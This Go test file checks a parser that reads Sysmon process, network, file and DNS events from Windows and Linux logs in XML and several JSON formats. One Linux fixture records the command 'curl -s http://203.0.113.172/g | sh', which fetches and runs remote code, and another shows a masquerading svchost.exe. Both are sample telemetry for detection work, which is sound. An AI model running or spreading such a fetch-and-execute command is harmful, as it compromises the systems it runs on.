package sysmon

import (
	"encoding/json"
	"fmt"
	"net/netip"
	"reflect"
	"strings"
	"testing"

	"tidewaiter/event"
	"tidewaiter/source"
	"tidewaiter/source/actor"
	"tidewaiter/source/sourcetest"
)

var at = event.Time{At: 1795300000_123 * event.Millisecond, Res: event.Millisecond}

// escaped is s as it stands in XML.
func escaped(s string) string {
	return strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;").Replace(s)
}

// event of XML with data as name, value, name, value.
func xmlOf(provider, id string, data ...string) string {
	s := `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='` + provider + `' Guid='{0}'/><EventID>` + id + `</EventID><TimeCreated SystemTime='2026-11-21T22:26:41.5Z'/>` +
		`<EventRecordID>401</EventRecordID><Computer>WIN-1</Computer></System><EventData><Data Name='UtcTime'>2026-11-21 22:26:40.123</Data>`
	for i := 0; i+1 < len(data); i += 2 {
		s += `<Data Name='` + data[i] + `'>` + escaped(data[i+1]) + `</Data>`
	}
	return s + `</EventData></Event>`
}

const (
	windows = "Microsoft-Windows-Sysmon"
	linux   = "Linux-Sysmon"
)

var created = []string{"ProcessId", "2260", "Image", `C:\Users\Public\svchost.exe`, "CommandLine", `"C:\Users\Public\svchost.exe" -o "a b" c\d`, "CurrentDirectory", `C:\`, "User", `NT AUTHORITY\SYSTEM`,
	"ParentProcessId", "712", "ParentImage", `C:\Windows\System32\services.exe`, "ParentCommandLine", "services.exe", "Hashes", "-"}

func theProcess() *event.Process {
	return &event.Process{PID: 2260, PPID: 712, Exe: `C:\Users\Public\svchost.exe`, Args: []string{`C:\Users\Public\svchost.exe`, "-o", "a b", `c\d`}, Cwd: `C:\`, UID: -1, AUID: -1, Session: -1,
		User: `NT AUTHORITY\SYSTEM`, ParentExe: `C:\Windows\System32\services.exe`, ParentCommand: "services.exe"}
}

type caseOf struct {
	why, text string
	want      sourcetest.Want
}

func xmlCases() []caseOf {
	one := func(b event.Body) sourcetest.Want { return sourcetest.Want{At: at, Body: b} }
	lin := &event.Process{PID: 30, PPID: 20, Exe: "/usr/bin/dash", Args: []string{"/bin/sh", "-c", "curl -s http://203.0.113.172/g | sh"}, Cwd: "/", UID: 0, AUID: -1, Session: -1, User: "root", ParentExe: "/usr/bin/runner"}
	created11 := xmlOf(windows, "11", "ProcessId", "5", "Image", "a.exe", "TargetFilename", `C:\x`)
	return []caseOf{
		{"a process", xmlOf(windows, "1", created...), one(theProcess())},
		{"a process of Linux, in syslog", "Nov 21 22:26:40 web-1 sysmon: " + xmlOf(linux, "1", "ProcessId", "30", "Image", "/usr/bin/dash", "CommandLine", "/bin/sh -c curl -s http://203.0.113.172/g | sh", "CurrentDirectory", "/", "User", "root", "ParentProcessId", "20", "ParentImage", "/usr/bin/runner", "ParentCommandLine", "-"), one(lin)},
		{"a connection", xmlOf(windows, "3", "ProcessId", "5", "Image", "a.exe", "Initiated", "true", "DestinationIp", "198.51.100.140", "DestinationPort", "3333"),
			one(&event.Socket{PID: 5, Exe: "a.exe", UID: -1, AUID: -1, Addr: netip.MustParseAddrPort("198.51.100.140:3333"), Success: true})},
		{"a connection to it", xmlOf(windows, "3", "Initiated", "false", "DestinationIp", "10.0.0.1"), sourcetest.Want{}},
		{"a file", created11, one(&event.FileWrite{PID: 5, Exe: "a.exe", Path: `C:\x`, UID: -1, AUID: -1})},
		{"a query", xmlOf(windows, "22", "ProcessId", "5", "QueryName", "Pool.Example", "QueryStatus", "0", "QueryResults", "type:  5 edge.example;::ffff:203.0.113.66;2001:db8::1;"),
			one(&event.DNS{PID: 5, Query: "pool.example", Code: "NOERROR", Names: []string{"edge.example"}, Addrs: []netip.Addr{netip.MustParseAddr("203.0.113.66"), netip.MustParseAddr("2001:db8::1")}})},
		{"a query for nothing", xmlOf(windows, "22", "QueryName", "x.example", "QueryStatus", "9003", "QueryResults", "-"), one(&event.DNS{Query: "x.example", Code: "NXDOMAIN"})},
		{"an error", xmlOf(windows, "255", "ID", "DriverCommunication"), one(&event.Loss{Reason: "Sysmon: DriverCommunication", Count: -1})},
		{"another event", xmlOf(windows, "5"), sourcetest.Want{}},
		{"another log", xmlOf("Microsoft-Windows-Security-Auditing", "1"), sourcetest.Want{}},
		{"over many lines", strings.ReplaceAll(created11, "><", ">\n  <"), one(&event.FileWrite{PID: 5, Exe: "a.exe", Path: `C:\x`, UID: -1, AUID: -1})},
		{"among plain lines", "Nov 21 22:26:40 web-1 cron[1]: started\n" + created11 + "\nNov 21 22:26:40 web-1 cron[1]: ended\n", one(&event.FileWrite{PID: 5, Exe: "a.exe", Path: `C:\x`, UID: -1, AUID: -1})},
		{"in a frame", "<?xml version=\"1.0\"?>\n<Events>\n" + created11 + "\n</Events>\n", one(&event.FileWrite{PID: 5, Exe: "a.exe", Path: `C:\x`, UID: -1, AUID: -1})},
		{"without UtcTime", strings.Replace(created11, "UtcTime", "Other", 1), sourcetest.Want{At: event.Time{At: 1795300001_500 * event.Millisecond, Res: 100 * event.Millisecond}, Body: &event.FileWrite{PID: 5, Exe: "a.exe", Path: `C:\x`, UID: -1, AUID: -1}}},
		{"characters that XML forbids", strings.Replace(created11, `C:\x`, "C:\\\x01\xff", 1), one(&event.FileWrite{PID: 5, Exe: "a.exe", Path: "C:\\\uFFFD\uFFFD", UID: -1, AUID: -1})},
		{"no address", xmlOf(windows, "3", "DestinationIp", "here"), sourcetest.Want{Fault: "DestinationIp"}},
		{"no time", strings.NewReplacer("UtcTime", "Other", "SystemTime", "Time").Replace(created11), sourcetest.Want{Fault: "no time"}},
		{"no end", created11[:len(created11)-8], sourcetest.Want{Fault: "without its end"}},
		{"no XML", "<Event><System></Event>", sourcetest.Want{Fault: ""}},
		{"a name that stands twice", xmlOf(windows, "11", "Image", "a", "Image", "b"), sourcetest.Want{Fault: "stands twice"}},
		{"something else", "hello", sourcetest.Want{Fault: "no event"}},
	}
}

func TestXML(t *testing.T) {
	for _, c := range xmlCases() {
		if c.why == "no XML" {
			if events, tally := sourcetest.Decode(t, XML(), c.text); len(events) != 0 || tally.Unreadable != 1 {
				t.Errorf("%d events, %v", len(events), tally.Faults)
			}
			continue
		}
		t.Run(c.why, func(t *testing.T) { sourcetest.Check(t, XML(), c.text, c.want) })
	}
	a := xmlOf(windows, "11", "Image", "a", "TargetFilename", "x")
	if events, tally := sourcetest.Decode(t, XML(), "<Events>"+a+strings.Replace(a, "401", "402", 1)+"</Events>\n"); len(events) != 2 || tally.Records != 2 {
		t.Errorf("two on one line: %d events, %+v", len(events), tally)
	}
	if events, tally := sourcetest.Decode(t, XML(), "<Event>\n<System>\n"+a); len(events) != 1 || tally.Unreadable != 1 {
		t.Errorf("one without its end before another: %d events, %+v", len(events), tally)
	}
}

func quoted(s string) string {
	b, err := json.Marshal(s)
	if err != nil {
		panic(err)
	}
	return string(b)
}

// object is data as a JSON object, with names as change makes them.
func object(change func(string) string, data ...string) string {
	var parts []string
	for i := 0; i+1 < len(data); i += 2 {
		parts = append(parts, quoted(change(data[i]))+":"+quoted(data[i+1]))
	}
	return "{" + strings.Join(parts, ",") + "}"
}

// renderings are one event as different programs write it.
func renderings() map[string]string {
	data := append([]string{"UtcTime", "2026-11-21 22:26:40.123"}, created...)
	same := func(s string) string { return s }
	list := ""
	for i := 0; i+1 < len(data); i += 2 {
		list += `{"@Name":` + quoted(data[i]) + `,"#text":` + quoted(data[i+1]) + `},`
	}
	system := `"System":{"Provider":{"#attributes":{"Name":"` + windows + `"}},"EventID":1,"TimeCreated":{"#attributes":{"SystemTime":"2026-11-21T22:26:41Z"}},"EventRecordID":401,"Computer":"WIN-1"}`
	flat := object(same, data...)
	return map[string]string{
		"winlogbeat":        `{"@timestamp":"2026-11-21T22:26:41Z","event":{"code":"1"},"message":"Process Create:","winlog":{"provider_name":"` + windows + `","computer_name":"WIN-1","event_id":1,"record_id":401,"event_data":` + flat + `}}`,
		"winlogbeat, texts": `{"@timestamp":"2026-11-21T22:26:41Z","winlog":{"provider_name":"` + windows + `","computer_name":"WIN-1","event_id":"1","record_id":"401","event_data":` + flat + `}}`,
		"objects":           `{"Event":{"#attributes":{"xmlns":"x"},` + system + `,"EventData":` + flat + `}}`,
		"a list of data":    `{"Event":{` + strings.ReplaceAll(system, "#attributes", "$") + `,"EventData":{"Data":[` + strings.TrimSuffix(list, ",") + `]}}}`,
		"Azure Monitor":     `{"TenantId":"x","Provider":"` + windows + `","Computer":"WIN-1","EventData":` + quoted(flat) + `,"EventID":1,"EventRecordID":401}`,
		"XML in a table":    `{"Computer":"WIN-1","SyslogMessage":` + quoted(xmlOf(windows, "1", created...)) + `}`,
		"Wazuh":             `{"data":{"win":{"system":{"providerName":"` + windows + `","eventID":"1","eventRecordID":"401","computer":"WIN-1"},"eventdata":` + object(func(s string) string { return strings.ToLower(s[:1]) + s[1:] }, data...) + `}}}`,
		"flat":              `{"EventID":1,"SourceName":"` + windows + `","Hostname":"WIN-1","RecordNumber":401,` + flat[1:],
		"a shipper":         `{"@timestamp":"2026-11-21T22:26:41Z","message":` + quoted(xmlOf(windows, "1", created...)) + `}`,
	}
}

func TestRenderings(t *testing.T) {
	for name, text := range renderings() {
		events, tally := sourcetest.Decode(t, JSON(), text)
		if len(events) != 1 || tally.Unreadable != 0 {
			t.Errorf("%s: %d events, %v", name, len(events), tally.Faults)
			continue
		}
		if e := events[0]; e.Time != at || !reflect.DeepEqual(e.Body, theProcess()) || e.Place.Host != "WIN-1" {
			t.Errorf("%s: %+v %+v", name, e, e.Body)
		}
		if sure := sourcetest.Sniff(JSON(), text); sure < 70 || sourcetest.Sniff(XML(), text) != 0 {
			t.Errorf("%s: sure by %d", name, sure)
		}
	}
	for text, fault := range map[string]string{
		`{"a":1}`: "no event of the Windows event log", `x`: "not one JSON value", `{"winlog":{"provider_name":"` + windows + `","event_data":{}}}`: "no EventID",
		`{"EventID":1,"Provider":"` + windows + `","EventData":{"image":"a","Image":"b"}}`: "stands twice", `{"EventID":1,"EventID":2}`: "key stands twice",
		`{"EventID":1,"Provider":"` + windows + `","EventData":"{"}`: "not one JSON value",
	} {
		sourcetest.Check(t, JSON(), text, sourcetest.Want{Fault: fault})
	}
	sourcetest.Check(t, JSON(), `{"Computer":"a","SyslogMessage":"started"}`, sourcetest.Want{})
}

// Syslog cuts long lines: what is left of an event is told, and that it is not
// all.
func TestCutLines(t *testing.T) {
	whole := xmlOf(linux, "1", "ProcessId", "30", "Image", "/usr/bin/java", "CommandLine", "java -Xmx1G -jar a.jar", "User", "root")
	head := "Nov 21 22:26:40 web-1 sysmon: "
	want := &event.Process{PID: 30, Exe: "/usr/bin/java", Args: []string{"java", "-Xmx1G", "-j"}, ArgsTruncated: true, UID: -1, AUID: -1, Session: -1}
	short := whole[:strings.Index(whole, "ar a.jar")]
	for name, text := range map[string]string{
		"at the end": head + short, "before another line": head + short + "\nNov 21 22:26:41 web-1 cron[1]: x", "before another event": head + short + "\n" + head + xmlOf(linux, "5"),
	} {
		events, tally := sourcetest.Decode(t, XML(), text)
		if len(events) != 1 || tally.Unreadable != 0 || !reflect.DeepEqual(events[0].Body, want) {
			t.Errorf("%s: %+v, %+v", name, events, tally)
		}
	}
	sourcetest.Check(t, JSON(), `{"Computer":"WIN-1","SyslogMessage":`+quoted(short)+`}`, sourcetest.Want{At: at, Body: want})
	sourcetest.Check(t, JSON(), `{"Computer":"WIN-1","SyslogMessage":`+quoted(whole[:80])+`}`, sourcetest.Want{Fault: "without its end"})
	sourcetest.Check(t, XML(), head+whole[:len(whole)-20], sourcetest.Want{At: at, Body: &event.Process{PID: 30, Exe: "/usr/bin/java", Args: []string{"java", "-Xmx1G", "-jar", "a.jar"}, User: "root", AUID: -1, Session: -1}})
}

// The inventory's name for a host wins over the same with a domain.
func TestHostNames(t *testing.T) {
	for known, want := range map[string]string{"": "win-1.corp.example", "win-1": "win-1", "WIN-1": "WIN-1", "win-2": "win-1.corp.example"} {
		if got := hostName(&source.Output{Place: event.Place{Host: known}}, "win-1.corp.example"); got != want {
			t.Errorf("%q: %q, want %q", known, got, want)
		}
	}
}

func TestArguments(t *testing.T) {
	for line, want := range map[string][]string{
		"": nil, " a  b ": {"a", "b"}, `"a b" c`: {"a b", "c"}, `a\\b "c\"d" e\\"f g"`: {`a\\b`, `c"d`, `e\f g`}, `""`: {""}, `a"b c"d`: {"ab cd"}, `"open`: {"open"}, `c:\x\ y`: {`c:\x\`, "y"},
	} {
		if got := windowsArgs(line); !reflect.DeepEqual(got, want) {
			t.Errorf("%q: %q, want %q", line, got, want)
		}
	}
	for line, want := range map[string][]string{
		"sh -c id | cat": {"sh", "-c", "id | cat"}, "/bin/bash -ec  x y": {"/bin/bash", "-ec", "x y"}, "bash -x -c a b": {"bash", "-x", "-c", "a b"}, "sh script -c x": {"sh", "script", "-c", "x"}, "bash --rc x": {"bash", "--rc", "x"},
		"curl -c x": {"curl", "-c", "x"}, "sh -c": {"sh", "-c"}, "bash -norc -c a b": {"bash", "-norc", "-c", "a b"},
	} {
		if got := actor.JoinedArgs(line, maxArgs); !reflect.DeepEqual(got, want) {
			t.Errorf("%q: %q, want %q", line, got, want)
		}
	}
}

func FuzzXML(f *testing.F) {
	for _, c := range xmlCases() {
		f.Add([]byte(c.text))
	}
	sourcetest.Fuzz(f, XML(), nil, nil)
}

// What a quick look calls of no interest is of none.
func FuzzInterest(f *testing.F) {
	for _, c := range xmlCases() {
		f.Add([]byte(c.text))
	}
	of5 := xmlOf(windows, "5", created...)
	if !ofNoInterest([]byte(of5)) {
		f.Error("the end of a process is read")
	}
	in := func(with string) string { return strings.Replace(of5, "<System>", with+"<System>", 1) }
	for _, s := range []string{of5, in("<!-- <EventID>5</EventID> -->"), in("<a><EventID>5</EventID></a>"), strings.Replace(in("<a><EventID>5</EventID></a>"), "<EventID>5<", "<x:EventID>1<", 1)} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, text []byte) {
		if !ofNoInterest(text) {
			return
		}
		if e, err := parseXML(text); err == nil {
			if body, err := e.body(); err == nil && body != nil {
				t.Fatalf("it is %+v", body)
			}
		}
	})
}

func FuzzJSON(f *testing.F) {
	for _, text := range renderings() {
		f.Add([]byte(text))
	}
	sourcetest.Fuzz(f, JSON(), nil, nil)
}

func FuzzArguments(f *testing.F) {
	f.Add(`"a b" c\"d`)
	f.Add("sh -c a b")
	f.Fuzz(func(t *testing.T, s string) {
		if len(windowsArgs(s)) > maxArgs || len(actor.JoinedArgs(s, maxArgs)) > maxArgs {
			t.Fatal("too many arguments")
		}
	})
}

func BenchmarkSysmon(b *testing.B) {
	number := func(s string) func(int64) string {
		return func(n int64) string { return strings.ReplaceAll(s, "401", fmt.Sprint(n)) + "\n" }
	}
	sourcetest.Bench(b, XML(), sourcetest.Fill("", number(xmlOf(windows, "1", created...))))
	sourcetest.Bench(b, JSON(), sourcetest.Fill("", number(renderings()["winlogbeat"])))
}

// TestShared reads Sysmon's events outside the repository without loss.
func TestShared(t *testing.T) {
	var files []string
	for folder, is := range map[string]func(string) bool{
		"data/sysmon_windows": func(p string) bool { return strings.HasSuffix(p, ".json") || strings.HasSuffix(p, ".js") },
		"data/sysmon_linux":   func(p string) bool { return strings.HasSuffix(p, ".json") },
		"scenarios": func(p string) bool {
			return strings.HasSuffix(p, "/sysmon.log") || strings.HasSuffix(p, "sysmon-linux.log")
		},
	} {
		files = append(files, sourcetest.SharedFiles(t, folder, is)...)
	}
	kinds := map[event.Kind]int{}
	for _, path := range files {
		for _, e := range sourcetest.ReadShared(t, path, XML(), JSON()) {
			kinds[e.Body.Kind()]++
		}
	}
	t.Logf("%d files, %v", len(files), kinds)
}
